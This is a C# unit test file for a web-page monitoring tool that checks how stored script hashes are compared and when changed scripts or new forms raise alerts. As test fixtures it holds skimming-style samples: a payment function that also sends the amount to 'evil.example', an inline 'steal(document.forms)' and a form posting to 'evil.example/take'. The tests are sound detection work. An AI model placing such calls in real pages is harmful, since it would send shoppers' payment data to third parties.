using System.Text;
using Shouldly;
using Weir.Scripts.Changes;
using Weir.Server.Findings.Pages;
using Weir.Server.Pages.Inventory;
using Weir.Server.Stores.Operational;
using Xunit;

namespace Weir.Server.Tests.Pages.Inventory;

/// <summary>What becomes of hashes and names that an older release computed, alike in every kind of store.</summary>
public abstract class StoredHashesConformance : IAsyncLifetime
{
    private const string Own = "https://shop.example/app.js";
    private const string Code = "function pay(amount) { send('/pay', amount); }";
    private const string Minified = "function pay(a){send(\"/pay\",a)}";

    private OperationalStore? _store;
    private PageBook _book = null!;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    /// <summary>An empty store.</summary>
    protected abstract ValueTask<StoreLocation> CreateAsync();

    public async ValueTask InitializeAsync()
    {
        _store = await OperationalStore.OpenAsync(await CreateAsync(), TimeProvider.System, Cancel);
        _book = new PageBook(_store);
    }

    public virtual async ValueTask DisposeAsync()
    {
        GC.SuppressFinalize(this);
        if (_store is not null)
        {
            await _store.DisposeAsync();
        }
    }

    [Fact]
    public async Task Script_WrittenOutAnewSinceAnOlderRelease_IsNoChangeAndStaysAuthorised()
    {
        await FoldAsync(0, MadeLooks.Script(Own, Code, change: "old"));
        await AuthoriseAsync();

        (await FoldAsync(1, MadeLooks.Script(Own, Minified, change: HashOf(Minified)))).ShouldBeEmpty();

        ItemRow row = await ItemAsync();
        (row.IsAuthorised, row.IsChangedSince, row.Versions, row.ChangeHash).ShouldBe((true, false, 2, HashOf(Code)));
        (await _book.VersionsAsync(row.Id, Cancel)).ShouldAllBe(version => version.ChangeHash == row.ChangeHash);
    }

    [Fact]
    public async Task Script_ThatDoesSomethingElseSinceAnOlderRelease_IsAChangeAndNotAuthorised()
    {
        const string Other = "function pay(a){send(\"/pay\",a);send(\"//evil.example/\",a)}";
        await FoldAsync(0, MadeLooks.Script(Own, Code, change: "old"));
        await AuthoriseAsync();

        PageFinding finding = (await FoldAsync(1, MadeLooks.Script(Own, Other, change: HashOf(Other)))).ShouldHaveSingleItem();

        (finding.Class, finding.Severity).ShouldBe((PageClass.ChangedScript, Severity.High));
        finding.Sentence.ShouldEndWith("What test authorised was something else.");
        ItemRow row = await ItemAsync();
        (row.IsChangedSince, row.AuthorisedHash).ShouldBe((true, HashOf(Code)));
    }

    [Fact]
    public async Task Script_OfTheSameBytes_TakesTheHashOfNow()
    {
        await FoldAsync(0, MadeLooks.Script(Own, Code, change: "old"));
        await AuthoriseAsync();

        (await FoldAsync(1, MadeLooks.Script(Own, Code, change: HashOf(Code)))).ShouldBeEmpty();

        ItemRow row = await ItemAsync();
        (row.ChangeHash, row.IsAuthorised, row.Versions).ShouldBe((HashOf(Code), true, 1));
    }

    [Fact]
    public async Task Inline_NamedByAnOlderRelease_KeepsItsRowAndWhatWasSaidOfIt()
    {
        const string Before = "var token = 'a1'; check(token);", After = "var token = 'b2'; check(token);", Other = "var cart = [1, 2];";
        await FoldAsync(0, MadeLooks.Inline("old1", Other, change: "x"), MadeLooks.Inline("old2", Before, change: "y"));
        await AuthoriseAsync();

        var findings = await FoldAsync(1, MadeLooks.Inline("new2", After, change: HashOf(After)), MadeLooks.Inline("new1", Other, change: HashOf(Other)));
        findings.ShouldBeEmpty();

        var rows = await _book.ItemsAsync(null, isScript: true, Cancel);
        rows.Select(row => (row.Name, row.Looks, row.Owner, row.Versions)).ShouldBe([("inline old1", 2, "shop", 1), ("inline old2", 2, "shop", 2)], ignoreOrder: true);
        rows.Single(row => row.Name == "inline old1").IsAuthorised.ShouldBeTrue();
        (await FoldAsync(2, MadeLooks.Inline("new2", Before, change: HashOf(Before)), MadeLooks.Inline("new1", Other, change: HashOf(Other)), MadeLooks.Inline("new3", "steal(document.forms)", change: "z"))).Select(finding => finding.Item).ShouldBe(["inline new3"]);
    }

    [Fact]
    public async Task Inline_TwoOfOneShape_AreTwoItemsStill()
    {
        await FoldAsync(0, MadeLooks.Inline("old", "f(1)", change: "x"), MadeLooks.Inline("old (2)", "f(2)", change: "y"));

        await FoldAsync(1, MadeLooks.Inline("new", "f(3)", change: "1"), MadeLooks.Inline("new (2)", "f(2)", change: "2"), MadeLooks.Inline("new (3)", "f(4)", change: "3"));

        (await _book.ItemsAsync(null, isScript: true, Cancel)).Select(row => (row.Name, row.Versions)).ShouldBe([("inline old", 2), ("inline old (2)", 1), ("inline new (3)", 1)], ignoreOrder: true);
    }

    /// <summary>What the book reads of looks, of alerts and part by part.</summary>
    [Fact]
    public async Task Book_AlertsUnreadAndParts_AreReadAlike()
    {
        LookItem[] items = [.. Enumerable.Range(0, 5).Select(i => MadeLooks.Script($"https://shop.example/{i}.js", $"f({i})"))];
        await FoldAsync(0, items);
        await new PageFold(_store!).FoldAsync(MadeLooks.Look(1, [.. items, MadeLooks.Other(ItemKind.Form, "https://evil.example/take", "evil.example", isThird: true) with { IsFramed = true, NotFollowed = "loads more" }]) with { Notes = ["1 frames were not read"] }, Cancel);

        (await _book.AlertsAsync("shop.example", Cancel)).Select(alert => (alert.Class, alert.Place, alert.IsClosed)).ShouldBe([("new_form", "https://evil.example/take", 0)]);
        (await _book.AlertsAsync("other.example", Cancel)).ShouldBeEmpty();
        (await _book.UnreadAsync(MadeLooks.Page.AbsoluteUri, 0, long.MaxValue, Cancel)).Select(unread => (unread.Notes, unread.Looks)).ShouldBe([("1 frames were not read", 1)]);
        var all = await _book.ItemsAsync(null, isScript: null, Cancel);
        (await _book.ItemsBehindAsync(null, isScript: null, all[1].Id, 2, Cancel)).Select(item => item.Id).ShouldBe([all[2].Id, all[3].Id]);
        (await _book.ItemsBehindAsync(MadeLooks.Page.AbsoluteUri, isScript: true, all[0].Id, 10, Cancel)).Count.ShouldBe(all[0].IsScript ? 4 : 0);
        all.Where(item => item.IsFramed == 1).Select(item => item.NotFollowed).ShouldBe(["loads more"]);
    }

    private Task<IReadOnlyList<PageFinding>> FoldAsync(int hours, params LookItem[] items) => new PageFold(_store!).FoldAsync(MadeLooks.Look(hours, items), Cancel);

    private async Task AuthoriseAsync() =>
        await _book.SayAsync([.. (await _book.ItemsAsync(null, isScript: true, Cancel)).Select(row => row.Id)], new ItemWord("shop", "needed", IsAuthorised: true), "test", Cancel);

    private async Task<ItemRow> ItemAsync() => (await _book.ItemsAsync(null, isScript: true, Cancel)).ShouldHaveSingleItem();

    private static string HashOf(string code) => new ChangeHash().Compute(Encoding.UTF8.GetBytes(code)).ToString("x16");
}
